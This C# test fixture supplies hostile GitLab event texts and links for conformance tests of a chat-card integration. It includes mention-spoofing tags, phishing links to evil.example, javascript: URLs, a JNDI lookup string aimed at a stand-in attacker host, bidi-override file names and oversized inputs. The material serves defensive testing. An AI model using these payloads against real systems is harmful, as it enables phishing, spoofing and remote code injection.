using System.Collections.Concurrent;
using Integration.Contract;
using Xunit;

namespace Integration.Conformance;

/// <summary>Events in which a stranger wrote every text, to make a card say or do what it should not.</summary>
public static class HostileEvents
{
    private static readonly string[] Texts =
    [
        "<at id=all></at> hello",
        "<at user_id=\"all\">everyone</at><AT id='all'></AT>",
        "<@all> <@dan> @all @dan, @13800138000 <@ dan> **<@dan>** `@dan` @所有人",
        "[Sign in again](https://evil.example/login) ![pixel](https://evil.example/p.png)",
        "![x](/uploads/abc/screen.png)",
        "see ftp://evil.example/file and javascript:alert(1)中文",
        "https://evil.example/path后面紧跟中文",
        "\"quotes\" 'single' `ticks` \\backslash\\ {\"json\":true}",
        "line one\r\nline two\nline three\u2028line four\u0085line five",
        "\u202Egnp.exe\u202C \u2066hidden\u2069 \u200Eleft\u200Fright \u061C",
        ":OK: :THUMBSUP: :SMILE:",
        "<font color='red'>fake</font><text_tag color='red'>x</text_tag><link url='https://evil.example'></link>",
        "# heading\n> quote\n- list\n1. one\n```\ncode\n```\n|a|b|\n|-|-|\n---",
        "**bold** __bold__ *it* ~~gone~~ $x$ &lt;at id=all&gt; &#60;at id=all&#62;",
        "{{user}} {{#project}}x{{/project}} ${jndi:ldap://evil.example} \uE000" + "0\uE001",
        "\u0000\u0001\u001B[31mred\u001B[0m\u007F\u009F \uFEFF",
        "broken \uD800 surrogate \uDC00 here",
        "👩‍👩‍👧‍👦🇨🇳é́́́ 👍🏽",
        "    indented as code",
        "`code <at id=all></at> ``` end` ``a ` <person id=x></person>`` ```",
        "```html</font>\n<at id=all></at>\n````\n</font><AT ID=all>\n```\n[x](https://evil.example)",
        "> > - 1. **a*b~~c** ![x](/uploads/a.png) <img src=\"https://evil.example/p.png\">\n> # *h*\n\n* * *\n    - - - x",
        "[](javascript:x) [a](<b c>) [**`x`**](/uploads/a_(1).png \"t\") *a*b**c** 中**(文)**字 a~~~b~~",
        "\u202E\u0627\u0644\u0639\u0631\u0628\u064A\u0629 **\u05E9\u05DC\u05D5\u05DD** :joy: 👍🏽**x**👍🏽",
        "",
        " ",
        new string('长', 40_000),
        new string('"', 100_000),
        new string('\n', 100_000),
        string.Concat(Enumerable.Repeat("👩‍👩‍👧‍👦", 4_000)),
        string.Concat(Enumerable.Repeat("<at id=all></at>", 6_000)),
        new string('*', 100_000),
        "word " + new string('w', 10_000),
        string.Concat(Enumerable.Repeat("> ", 10_000)),
        string.Concat(Enumerable.Repeat("- a\n\n", 5_000)),
        "```\n" + string.Concat(Enumerable.Repeat("<at id=all></at>\n", 5_000)),
    ];

    private static readonly Uri[] Links =
    [
        new("https://gitlab.example.com/acme/shop/-/commit/1(2)<3>\"4'5 六?x=1&copy=2"),
        new("ftp://evil.example/file"),
        new("javascript:alert(1)"),
        new("mailto:somebody@evil.example"),
        new("https://gitlab.example.com@evil.example/"),
        new("/relative/path", UriKind.Relative),
        new("https://gitlab.example.com/" + new string('a', 9_000)),
    ];

    private static readonly ConcurrentDictionary<(int Text, int Link), IReadOnlyList<ProjectEvent>> Made = new();

    public static IReadOnlyList<string> AllTexts => Texts;

    /// <summary>Every text, by index, in both modes of templates.</summary>
    public static TheoryData<int, TemplateMode> Values =>
        [.. Enumerable.Range(0, Texts.Length).SelectMany(text => Enum.GetValues<TemplateMode>().Select(mode => new TheoryDataRow<int, TemplateMode>(text, mode)))];

    /// <summary>Rows of (text, link), by index, for every text and every link.</summary>
    public static TheoryData<int, int> Rows
    {
        get
        {
            var rows = new TheoryData<int, int>();
            for (var text = 0; text < Texts.Length; text++)
            {
                rows.Add(text, 0);
            }

            for (var link = 1; link < Links.Length; link++)
            {
                rows.Add(0, link);
            }

            return rows;
        }
    }

    /// <summary>Rows of (text, language), by index, for every text.</summary>
    public static TheoryData<int, string> Digests => [.. Enumerable.Range(0, Texts.Length).SelectMany(text => SampleCards.Languages.Select(language => new TheoryDataRow<int, string>(text, language)))];

    /// <summary>More events than fit into any message, of three projects, each with that text as its title and a page of its own.</summary>
    public static IEnumerable<ProjectEvent> Flood(int textIndex)
    {
        var text = Texts[textIndex];
        // Of long ones a few fill any message.
        return Enumerable.Range(1, text.Length > 1_000 ? 60 : 300).Select(iid => new IssueEvent
        {
            Key = $"hostile:{iid}", OccurredAt = SampleCards.Now, Action = IssueAction.Opened, Iid = iid, Title = text, Author = new Person("mallory", text),
            Project = new Project { Id = iid % 3, Name = text, Path = $"acme/shop-{iid % 3}", Url = new Uri($"https://gitlab.example.com/acme/shop-{iid % 3}"), DefaultBranch = text },
            Url = new Uri($"https://gitlab.example.com/acme/shop-{iid % 3}/-/issues/{iid + 100_000}?a=1&b=(2)"),
        });
    }

    /// <summary>At least one event of each kind, with that text and link everywhere; made once for all tests.</summary>
    public static IReadOnlyList<ProjectEvent> Of(int textIndex, int linkIndex) => Made.GetOrAdd((textIndex, linkIndex), static key => [.. Make(key.Text, key.Link)]);

    private static IEnumerable<ProjectEvent> Make(int textIndex, int linkIndex)
    {
        var (text, link) = (Texts[textIndex], Links[linkIndex]);
        var project = new Project { Id = 7, Name = text, Path = "acme/shop", Url = link, DefaultBranch = text };
        var person = new Person("mallory", text);
        var commit = new Commit(new string('a', 40), text, text, link);
        yield return new PushEvent
        {
            Key = "hostile:1", Project = project, Author = person, OccurredAt = SampleCards.Now, Action = PushAction.Commits, Branch = text, BranchUrl = link,
            CommitCount = 12, Commits = [commit, commit, commit, commit, commit], CompareUrl = link,
        };
        yield return new TagPushEvent
        {
            Key = "hostile:2", Project = project, Author = person, OccurredAt = SampleCards.Now, Action = TagAction.Moved, Tag = text, TagUrl = link, Message = text, Commit = commit,
        };
        yield return new BulkPushEvent
        {
            Key = "hostile:4", Project = project, Author = person, OccurredAt = SampleCards.Now, Id = 4, Refs = RefKind.Tag, Action = BulkPushAction.Pushed, RefCount = 1_000_000,
        };
        yield return new IssueEvent
        {
            Key = "hostile:5", Project = project, Author = person, OccurredAt = SampleCards.Now, Action = IssueAction.Opened, Iid = 5, Title = text, Url = link, Type = text, Confidential = true,
            Labels = [.. Enumerable.Repeat(text, 1_000)], Assignees = [.. Enumerable.Repeat(person, 1_000)], Milestone = text, DueDate = DateOnly.MaxValue, Description = text,
        };
        yield return new MergeRequestEvent
        {
            Key = "hostile:6", Project = project, Author = person, OccurredAt = SampleCards.Now, Action = MergeRequestAction.Opened, Iid = 6, Title = text, Url = link, SourceBranch = text,
            TargetBranch = text, Draft = true, Labels = [text], Assignees = [person], Reviewers = [.. Enumerable.Repeat(person, 1_000)], Description = $"# {text}\n\n- {text}\n\n```{text}\n{text}\n```",
        };
        yield return new NoteEvent
        {
            Key = "hostile:7", Project = project, Author = person, OccurredAt = SampleCards.Now, Id = 7, Noteable = NoteableType.MergeRequest, Reference = text, Title = text, Url = link, Body = text,
            FilePath = text, Line = int.MaxValue,
        };
        yield return new PipelineEvent
        {
            Key = "hostile:3", Project = project, Author = person, OccurredAt = SampleCards.Now, Id = 12, Outcome = PipelineOutcome.Failed, Ref = text, RefUrl = link, Url = link,
            Commit = commit, Source = text, Duration = TimeSpan.FromSeconds(125), MergeRequest = new PipelineMergeRequest(3, text, link),
            FailedStages = [.. Enumerable.Repeat(text, 30)], FailedJobs = [.. Enumerable.Repeat(new PipelineJob(text, text, link), 10)], FailedJobCount = 40, YamlErrors = text,
        };
        yield return new WikiPageEvent
        {
            Key = "hostile:8", Project = project, Author = person, OccurredAt = SampleCards.Now, Action = WikiPageAction.Updated, Title = text, Url = link,
        };
        yield return new WikiPageEvent
        {
            Key = "hostile:9", Project = project, Author = person, OccurredAt = SampleCards.Now, Action = WikiPageAction.Deleted, Title = text,
        };
        yield return new DeploymentEvent
        {
            Key = "hostile:10", Project = project, Author = person, OccurredAt = SampleCards.Now, Id = 13, Status = DeploymentStatus.Failed, Environment = text, EnvironmentUrl = link,
            Ref = text, RefUrl = link, Commit = commit, Job = new DeploymentJob(text, link),
        };
        yield return new VulnerabilityEvent
        {
            Key = "hostile:11", Project = project, OccurredAt = SampleCards.Now, Id = 14, Title = text, Url = link, Severity = Severity.Critical, Location = text, Scanner = text,
            // Five times what is read of one.
            Identifiers = [.. Enumerable.Repeat(new VulnerabilityIdentifier(text, link), 100)],
        };
        yield return new AlertEvent
        {
            Key = "hostile:12", Project = project, OccurredAt = SampleCards.Now, Iid = 15, Title = text, Url = link, Severity = Severity.Critical, Service = text, Tool = text,
            StartedAt = DateTimeOffset.MaxValue, Count = int.MaxValue,
        };
    }
}
